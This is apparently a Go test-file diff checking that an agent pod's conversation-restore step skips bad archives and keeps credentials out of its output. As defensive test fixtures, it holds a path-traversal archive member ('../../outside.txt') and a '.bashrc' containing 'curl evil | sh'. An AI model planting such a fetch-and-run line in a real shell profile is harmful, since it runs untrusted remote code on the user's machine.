@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"encoding/base64"
+	"encoding/json"
 	"net/http"
 	"net/http/cgi"
 	"net/http/httptest"
@@ -17,6 +18,7 @@ import (
 	"testing"
 
 	"github.com/agentplane/agentplane/libs/runspec"
+	eventsv1 "github.com/agentplane/agentplane/proto/agentplane/events/v1"
 )
 
 // git runs git in dir with a clean, test-only configuration.
@@ -146,10 +148,21 @@ func TestInitPreparesThePod(t *testing.T) {
 // conversationArchive builds the tar.gz a conversation source serves.
 func conversationArchive(t *testing.T, files map[string]string) []byte {
 	t.Helper()
+	var members [][2]string
+	for name, body := range files {
+		members = append(members, [2]string{name, body})
+	}
+	return tarGz(t, members...)
+}
+
+// tarGz builds a tar.gz of regular files, in the order given.
+func tarGz(t *testing.T, members ...[2]string) []byte {
+	t.Helper()
 	var buf bytes.Buffer
 	zw := gzip.NewWriter(&buf)
 	tw := tar.NewWriter(zw)
-	for name, body := range files {
+	for _, m := range members {
+		name, body := m[0], m[1]
 		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
 			t.Fatal(err)
 		}
@@ -166,56 +179,140 @@ func conversationArchive(t *testing.T, files map[string]string) []byte {
 	return buf.Bytes()
 }
 
+// TestInitRestoresConversation: a good archive is unpacked and resumed;
+// anything the store gets wrong (down, non-2xx, a bad or hostile archive)
+// or an unusable header line is skipped. A skipped restore reports
+// init/skipped with a cause and a credential-free message, leaves the
+// state dir empty and the skip marker behind, the init still succeeds, and
+// the run starts a fresh conversation instead of resuming a missing one.
 func TestInitRestoresConversation(t *testing.T) {
-	good := conversationArchive(t, map[string]string{".claude/projects/-workspace/sess-1.jsonl": `{"type":"user"}` + "\n"})
-	hostile := conversationArchive(t, map[string]string{"../../outside.txt": "x"})
-	offPrefix := conversationArchive(t, map[string]string{".bashrc": "curl evil | sh"})
+	const session = ".claude/projects/-workspace/sess-1.jsonl"
+	good := conversationArchive(t, map[string]string{session: `{"type":"user"}` + "\n"})
 	tests := []struct {
 		name    string
 		archive []byte
-		code    int
-		file    string
+		status  int
+		down    bool
+		auth    string
+		reason  string // empty: restored
+		detail  string
 	}{
-		{name: "the archive is unpacked into the vendor's state dir", archive: good, code: 0, file: ".claude/projects/-workspace/sess-1.jsonl"},
-		{name: "a member escaping HOME fails the pod", archive: hostile, code: 15},
-		{name: "a member outside the state dir fails the pod", archive: offPrefix, code: 15},
-		{name: "a missing conversation fails the pod", archive: nil, code: 15},
+		{name: "the archive is unpacked into the vendor's state dir and resumed", archive: good},
+		{name: "an unreachable store is skipped", down: true, reason: "unreachable", detail: "connection refused"},
+		{name: "a store answering 503 is skipped with the status", archive: good, status: 503, reason: "status-503", detail: ": status 503;"},
+		{name: "a missing conversation is skipped with the status", status: 404, reason: "status-404", detail: ": status 404;"},
+		{name: "a body that is not an archive is skipped as a bad archive", archive: []byte("<html>maintenance</html>"), reason: "bad-archive", detail: "not a gzip archive"},
+		{name: "a member escaping HOME is skipped as a bad archive", archive: conversationArchive(t, map[string]string{"../../outside.txt": "x"}), reason: "bad-archive"},
+		{name: "a member outside the state dir is skipped as a bad archive", archive: conversationArchive(t, map[string]string{".bashrc": "curl evil | sh"}), reason: "bad-archive"},
+		{name: "an archive failing half-way leaves no partial session",
+			archive: tarGz(t, [2]string{session, "{}\n"}, [2]string{"../../outside.txt", "x"}), reason: "bad-archive", detail: "outside"},
+		{name: "an unusable header line is skipped without its value", archive: good, auth: "X-Conv conv-token", reason: "auth-header", detail: "header from conv-auth"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-				if r.Header.Get("X-Conv") != "conv-token" || r.URL.Path != "/conversations/sess-1" || tt.archive == nil {
+				switch {
+				case tt.status != 0:
+					w.WriteHeader(tt.status)
+				case r.Header.Get("X-Conv") != "conv-token" || r.URL.Path != "/conversations/sess-1" || tt.archive == nil:
 					http.NotFound(w, r)
-					return
+				default:
+					_, _ = w.Write(tt.archive)
 				}
-				_, _ = w.Write(tt.archive)
 			}))
 			defer srv.Close()
+			base := srv.URL
+			if tt.down {
+				srv.Close()
+			}
 			p := newPod(t, jobSpec(vendorModels["claude"], "go")).withNATS()
-			p.env[runspec.EnvConversationSource] = srv.URL + "/conversations"
+			// Userinfo in the source must never reach a log, event or message.
+			p.env[runspec.EnvConversationSource] = strings.Replace(base, "http://", "http://u:url-secret@", 1) + "/conversations"
 			p.env[runspec.EnvConversationID] = "sess-1"
 			p.env[runspec.EnvConversationAuth] = "conv-auth"
 			p.env["conv-auth"] = "X-Conv: conv-token"
+			if tt.auth != "" {
+				p.env["conv-auth"] = tt.auth
+			}
 			r := p.run("init")
-			if r.code != tt.code {
-				t.Fatalf("exit %d, want %d", r.code, tt.code)
+			if r.code != 0 {
+				t.Fatalf("init exit %d, want 0: a conversation store never fails the pod", r.code)
 			}
-			if bytes.Contains(r.stderr, []byte("conv-token")) || bytes.Contains(r.stdout, []byte("conv-token")) {
-				t.Fatal("conversation credential in init output")
-			}
-			if tt.file != "" {
-				if _, err := os.Stat(filepath.Join(p.agentDir, tt.file)); err != nil {
-					t.Fatalf("conversation not restored: %v", err)
+			for _, secret := range []string{"conv-token", "url-secret"} {
+				if bytes.Contains(r.stderr, []byte(secret)) || bytes.Contains(r.stdout, []byte(secret)) {
+					t.Fatalf("credential %q in init output", secret)
 				}
-				return
 			}
 			evs := p.natsEvents()
-			if lc := evs[len(evs)-1].GetLifecycle(); lc.GetStatus() != "failed" || lc.GetReason() != "conversation" || lc.GetExitCode() != 15 {
-				t.Fatalf("terminal event %v", lc)
+			if got := lifecycle(evs[len(evs)-1]); got != "init/succeeded" {
+				t.Fatalf("terminal event %s, want init/succeeded", got)
+			}
+			var skipped []*eventsv1.Lifecycle
+			for i, ev := range evs {
+				if lc := ev.GetLifecycle(); lc.GetStatus() == "skipped" {
+					skipped = append(skipped, lc)
+					if prev := evs[i-1].GetLifecycle(); prev.GetStatus() != "running" || prev.GetTool() != "conversation" {
+						t.Errorf("the skip follows the conversation step's start, not %v", prev)
+					}
+				}
+			}
+			_, markerErr := os.Stat(filepath.Join(p.agentDir, ".agentplane", "conversation-skipped"))
+			_, sessionErr := os.Stat(filepath.Join(p.agentDir, session))
+			if tt.reason == "" {
+				if len(skipped) != 0 || markerErr == nil || sessionErr != nil {
+					t.Fatalf("want the conversation restored: skipped %v, marker %v, session %v", skipped, markerErr, sessionErr)
+				}
+			} else {
+				if len(skipped) != 1 {
+					t.Fatalf("want one init/skipped event, got %v", skipped)
+				}
+				lc := skipped[0]
+				wantMsg := `conversation "sess-1" could not be restored from ` + base + `/conversations: `
+				if lc.GetPhase() != "init" || lc.GetTool() != "conversation" || lc.GetReason() != tt.reason ||
+					!strings.HasPrefix(lc.GetMessage(), wantMsg) || !strings.HasSuffix(lc.GetMessage(), "; starting a fresh conversation") ||
+					!strings.Contains(lc.GetMessage(), tt.detail) || strings.Contains(lc.GetMessage(), "\n") {
+					t.Fatalf("skip event %v, want reason %q and a one-line message starting %q naming %q", lc, tt.reason, wantMsg, tt.detail)
+				}
+				if markerErr != nil {
+					t.Fatalf("no skip marker: %v", markerErr)
+				}
+				if entries, err := os.ReadDir(filepath.Join(p.agentDir, ".claude", "projects")); err != nil || len(entries) != 0 {
+					t.Fatalf("the state dir holds a half-restored session: %v %v", entries, err)
+				}
+				if _, err := os.Stat(filepath.Join(filepath.Dir(p.agentDir), "outside.txt")); err == nil {
+					t.Fatal("an archive member escaped HOME")
+				}
+			}
+
+			// The run resumes a restored conversation and starts a fresh
+			// one otherwise: the mock CLI reports the resumed id.
+			run := p.run("run")
+			if run.code != 0 {
+				t.Fatalf("run exit %d", run.code)
+			}
+			id := resultSessionID(t, run.stdout)
+			if resumed := id == "sess-1"; resumed != (tt.reason == "") {
+				t.Fatalf("the run's session is %q: resumed %v, want %v", id, resumed, tt.reason == "")
 			}
 		})
 	}
+}
+
+// resultSessionID is the session id on the CLI's result line in stdout.
+func resultSessionID(t *testing.T, stdout []byte) string {
+	t.Helper()
+	for _, line := range bytes.Split(stdout, []byte("\n")) {
+		var m struct {
+			Type      string `json:"type"`
+			SessionID string `json:"session_id"`
+		}
+		if json.Unmarshal(line, &m) == nil && m.Type == "result" {
+			return m.SessionID
+		}
+	}
+	t.Fatalf("no result line in:\n%s", lastBytes(stdout, 4000))
+	return ""
 }
 
 func TestInitFailureCodes(t *testing.T) {
